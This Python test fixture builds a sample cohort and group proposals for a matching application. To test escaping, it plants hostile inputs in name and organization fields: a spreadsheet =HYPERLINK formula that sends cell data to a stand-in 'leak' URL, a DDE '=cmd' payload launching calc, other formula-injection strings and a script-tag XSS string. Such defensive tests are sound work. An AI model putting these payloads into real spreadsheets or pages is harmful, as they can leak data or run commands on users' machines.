"""A small cohort with everything that could go wrong when written down."""

from __future__ import annotations

from datetime import date

from matcher.cohort import Cohort, LevelValue, Proposal, Reason, Unplaced
from tests.build import cohort, group, person, proposal, provider

FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
ANYTIME = "mon,tue,wed,thu,fri 06:00-22:00"
SECTORS = ("home-visiting", "head-start", "pediatrics", "child-welfare", "early-intervention")


def example_cohort() -> Cohort:
    """Sixteen people, two providers, US holidays; Mondays and a monthly Thursday."""
    people = [
        person(
            f"P{number:02d}",
            ANYTIME,
            name=f"Person Number{number:02d}",
            email=f"p{number:02d}@example.org",
            sector=SECTORS[number % 5],
            rc_access=("none", "little", "some", "regular")[number % 4],
            mou=number % 2 == 0,
            evaluation_consent=number % 3 == 0,
            monitor={"background": f"secret-{number}"},
        )
        for number in range(1, 12)
    ]
    people += [
        person("P12", ANYTIME, name=FORMULA, email="+1@example.org", time_zone="America/Phoenix"),
        person("P13", ANYTIME, name="-2+3", organization="@SUM(A1:A9)", rounds_waited=2),
        person("P14", name="\tTab", member_until=date(2026, 11, 30)),
        person("P15", name="<script>alert(1)</script> & Søn", rc_access="regular"),
        person("P16", name=""),
    ]
    leaders = [
        provider("V1", ANYTIME, name="José Núñez", email="v1@example.org", max_groups=3),
        provider("V2", ANYTIME, name="=cmd|' /C calc'!A0", sectors=("pediatrics",)),
    ]
    return cohort(
        people,
        leaders,
        name="R&D, “Reflect”; 2027",
        holidays="US",
        group_size=(3, 6),
        seed=7,
    )


def example_proposal(of: Cohort) -> Proposal:
    """Three groups, one of them monthly, and four people without a seat."""
    groups = [
        group("P01 P02 P03 P04", id="G01", weekday="mon", start="12:30"),
        group("P05 P06 P07 P12", id="G02", weekday="mon", start="12:30", weeks=(2, 4)),
        group("P08 P09 P10 P11", id="G03", provider_id="V2", weekday="thu", start="11:00",
              cadence="monthly", weeks=(2,)),
    ]  # fmt: skip
    levels = (
        LevelValue("seats.none", 3, 3),
        LevelValue("seats.little", 3, 4),
        LevelValue("seats.some", 3, None),
        LevelValue("seats.regular", 3, 3),
        LevelValue("turn", 1234.0, 1234.0),
        LevelValue("mix", 1, 0),
        LevelValue("preference", 2, 2),
    )
    unplaced = (
        Unplaced("P13", (Reason("outranked", "Seats at their times went to earlier turns."),)),
        Unplaced("P14", (Reason("membership", "Membership ended on Nov 30, 2026."),)),
        Unplaced(
            "P15",
            (
                Reason("no-provider-time", "Nobody leads on Fridays."),
                Reason("rule", "=1+1 is kept apart from P01 (rule apart)."),
            ),
        ),
        Unplaced("P16", (Reason("not-enough-others", "Only one other could meet."),)),
    )
    return proposal(of, groups, levels=levels, unplaced=unplaced, input_sha256="a1" * 32)


def empty_proposal(of: Cohort) -> Proposal:
    """No group is possible."""
    return proposal(of, levels=(LevelValue("seats.none", 0, 0),))
